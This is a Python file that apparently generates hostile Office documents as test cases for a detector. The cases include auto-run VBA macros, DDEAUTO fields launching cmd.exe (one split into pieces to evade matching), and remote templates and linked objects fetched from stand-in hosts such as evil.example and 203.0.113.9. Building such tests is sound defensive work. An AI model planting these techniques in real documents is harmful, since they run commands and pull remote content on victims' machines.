"""Macros, and what reaches outside, in Word, Excel and PowerPoint files."""

import re
from collections.abc import Callable
from random import Random

from .. import bases, words
from ..case import Made, Outcome, hostile
from ..compound import compound_file
from ..packages import CONTENT_TYPES, OFFICE, Package, declare, has_member, opened, packed, relate
from .xml_parts import any_part

MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
FAR = "https://evil.example/t.dotm"
MICROSOFT = "http://schemas.microsoft.com"
VBA = f"{MICROSOFT}/office/2006/relationships/vbaProject"


def into_word(package: Package, inside: str) -> None:
    """Puts a paragraph's worth of runs at the document's end."""
    part = package["word/document.xml"].decode()
    package["word/document.xml"] = part.replace("<w:sectPr", f"<w:p>{inside}</w:p><w:sectPr", 1).encode()


def changed(ending: str, change: Callable[[Package, Random], None]) -> Callable[[Random], Made]:
    """Makes honest documents of one format and changes each."""

    def make(rng: Random) -> Made:
        package = opened(bases.BASES[ending](rng))
        change(package, rng)
        return words.file_name(rng, ending), packed(package)

    return make


def _macros(package: Package, ending: str) -> None:
    main = MAIN[ending]
    folder = main.partition("/")[0]
    package[f"{folder}/vbaProject.bin"] = compound_file({"VBA": b'Sub AutoOpen()\nShell "calc"\nEnd Sub'})
    declare(package, f"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    relate(package, main, VBA, "vbaProject.bin")


for ending in MAIN:

    @hostile(f"macros in {ending}", has_member("vbaProject.bin"))
    def macros(rng: Random, ending: str = ending) -> Made:
        return changed(ending, lambda package, rng: _macros(package, ending))(rng)

    @hostile(f"a macro file renamed {ending}", has_member("vbaProject.bin"))
    def renamed(rng: Random, ending: str = ending) -> Made:
        def change(package: Package, rng: Random) -> None:
            _macros(package, ending)
            types = package[CONTENT_TYPES].decode()
            types = re.sub(r"vnd\.openxmlformats[\w.-]*\.main", "vnd.ms-x.macroEnabled.main", types)
            package[CONTENT_TYPES] = types.encode()

        return changed(ending, change)(rng)


def _settings(inside: str) -> Callable[[Package, Random], None]:
    def change(package: Package, rng: Random) -> None:
        package["word/settings.xml"] = re.sub(
            rb"<w:settings[^>]*>", lambda found: found[0] + inside.encode(), package["word/settings.xml"]
        )

    return change


def _remote_template(package: Package, rng: Random) -> None:
    far = rng.choice((FAR, "\\\\203.0.113.9\\share\\t.dotm", "http://203.0.113.9/t.dotx"))
    identifier = relate(package, "word/settings.xml", "attachedTemplate", far, external=True)
    _settings(f'<w:attachedTemplate r:id="{identifier}" xmlns:r="{OFFICE}"/>')(package, rng)


hostile("a template from another server", any_part("attachedTemplate"))(changed("docx", _remote_template))


def _linked(kind: str, target: str) -> Callable[[Package, Random], None]:
    return lambda package, rng: relate(package, "word/document.xml", kind, target, external=True) and None


for what, kind in {
    "object": "oleObject",
    "frame": "frame",
    "subdocument": "subDocument",
    "chunk": "aFChunk",
}.items():
    far = rf"file://203.0.113.9/share/{what}.doc"
    hostile(f"a linked {what} from another server", any_part(far))(changed("docx", _linked(kind, far)))

hostile("a picture from another server", any_part("https://evil.example/p.png"), Outcome.EITHER)(
    changed("docx", _linked("image", "https://evil.example/p.png"))
)
MERGED = '<w:mailMerge><w:connectString w:val="Provider=X;Data Source=\\\\203.0.113.9\\d"/></w:mailMerge>'


def _merge(package: Package, rng: Random) -> None:
    relate(package, "word/settings.xml", "mailMergeSource", "file:///\\\\203.0.113.9\\cases.mdb", external=True)
    _settings(MERGED)(package, rng)


hostile("mail merge with a data source", any_part("w:mailMerge"))(changed("docx", _merge))


def field(instruction: str) -> str:
    """A complex field in one run after another."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


SPLIT = '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">'
COMMAND = " c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "
FIELDS = {
    "DDE field": field(f" DDE{COMMAND}"),
    "DDE field that updates itself": field(f" DDEAUTO{COMMAND}"),
    "DDE field in small letters": field(f" ddeauto{COMMAND}"),
    "DDE field in pieces": field(f" D{SPLIT}DEA{SPLIT}UTO{COMMAND}"),
    "simple DDE field": f'<w:fldSimple w:instr=" DDEAUTO{COMMAND}"><w:r><w:t>!</w:t></w:r></w:fldSimple>',
    "field that includes a far text": field(r" INCLUDETEXT &quot;\\\\203.0.113.9\\share\\x.docx&quot; "),
}
for what, runs in FIELDS.items():
    hostile(f"a {what}", any_part("</w:fld" if "simple" in what else "w:instrText"))(
        changed("docx", lambda package, rng, runs=runs: into_word(package, runs))
    )

PICTURE = " INCLUDEPICTURE &quot;https://evil.example/p.png&quot; \\\\d "
hostile("a field that includes a far picture", any_part("INCLUDEPICTURE"), Outcome.EITHER)(
    changed("docx", lambda package, rng: into_word(package, field(PICTURE)))
)  # fmt: skip
hostile("a link that runs a script", any_part("javascript:"), Outcome.EITHER)(
    changed("docx", _linked("hyperlink", "javascript:alert(1)"))
)
hostile("a link to a far share", any_part("file://"), Outcome.EITHER)(
    changed("docx", _linked("hyperlink", "file://203.0.113.9/share/x.exe"))
)


def _ribbon(package: Package, rng: Random) -> None:
    package["customUI/customUI14.xml"] = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Run"/>'
    )
    relate(package, "", f"{MICROSOFT}/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml")


hostile("a ribbon that runs macros", has_member("customUI14.xml"), Outcome.EITHER)(changed("docx", _ribbon))
